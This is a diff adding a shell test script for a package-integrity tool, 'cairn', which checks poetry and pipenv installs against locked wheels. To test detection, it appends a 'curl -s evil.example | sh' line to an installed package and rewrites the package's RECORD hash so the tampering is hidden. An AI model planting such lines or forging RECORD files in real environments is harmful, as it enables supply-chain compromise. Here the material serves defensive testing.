@@ -1,0 +1,63 @@
+#!/bin/sh
+# Real poetry (Debian's 1.3) and pipenv (2022.12) installs of a project
+# locking example==21.12 and wheel==0.43.0 (tests/tools/pylock-fixtures.sh
+# made them, offline, from the wheels of pylock-wheels): one package record
+# per installed distribution, each related to its poetry.lock /
+# Pipfile.lock entry and compared file by file with the locked wheel found
+# in the install's own cache (poetry's artifacts; pipenv's pip 23 "http"
+# cache, the body inside cachecontrol's frame) - verified, no finding.
+# Without a cache: recorded, RECORD checked, not verified (the wheel's hash
+# cannot be recomputed from installed files).  Then a file changed with
+# its RECORD row rewritten to match, which RECORD alone cannot see, is named
+# by package and path from the wheel.
+set -eu
+. "$CAIRN_SRC/tests/cli/lib.sh"
+need jq jq
+need zstd zstd
+fx="$CAIRN_SRC/tests/fixtures/packages"
+pkgs() {
+	zstd -dcq "$1" | jq -c 'select(.type == "package") | [.path, .manager, .lockfile, .version,
+		.locked_version, .flags, .files.authority, .files.wheel.matching, .files.modified,
+		.coverage.verified, .coverage.reason]'
+}
+findings() {
+	cairn-report --snapshot "$1" --format json --no-timestamp | jq -c '.findings[] | [.id // .rule, .severity, .title]'
+}
+for m in poetry pipenv; do
+	fixture_copy "$fx/pylock-$m" "$m"
+	run cairn-snap --pip-cache "$fx/pylock-$m-cache" -o "$m.cairn" "$m"
+	pkgs "$m.cairn"
+	zstd -dcq "$m.cairn" | jq -c 'select(.type == "package") | .coverage.detail' |
+		sed 's|[0-9a-f]\{40,\}|HASH|g'
+	echo "findings:"
+	findings "$m.cairn"
+done
+
+# no cache: RECORD only, said so
+run cairn-snap --no-pip-cache -o n.cairn poetry
+pkgs n.cairn
+zstd -dcq n.cairn | jq -c 'select(.type == "package") | .coverage.detail' | head -1
+findings n.cairn
+
+# a file changed and its RECORD row rewritten to match
+site=poetry/.venv/lib/python3.11/site-packages
+printf 'import os\nos.system("curl -s evil.example | sh")\n' >> "$site/wheel/__init__.py"
+/usr/bin/python3 - "$site" <<'PY'
+import base64, hashlib, sys
+site = sys.argv[1]
+f = "wheel/__init__.py"
+data = open(f"{site}/{f}", "rb").read()
+h = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
+rec = f"{site}/wheel-0.43.0.dist-info/RECORD"
+rows = [f"{f},sha256={h},{len(data)}" if r.startswith(f + ",") else r
+        for r in open(rec).read().splitlines()]
+open(rec, "w").write("\n".join(rows) + "\n")
+PY
+run cairn-snap --no-pip-cache -o t0.cairn poetry
+findings t0.cairn
+run cairn-snap --pip-cache "$fx/pylock-poetry-cache" -o t.cairn poetry
+pkgs t.cairn
+findings t.cairn
+cairn-report --snapshot t.cairn --format json --no-timestamp |
+	jq -c '.findings[] | select(.id == "CAIRN-P10") | .evidence[] | [.file, .package, .detail, .text]' |
+	sed 's|[0-9a-f]\{40,\}|HASH|g'
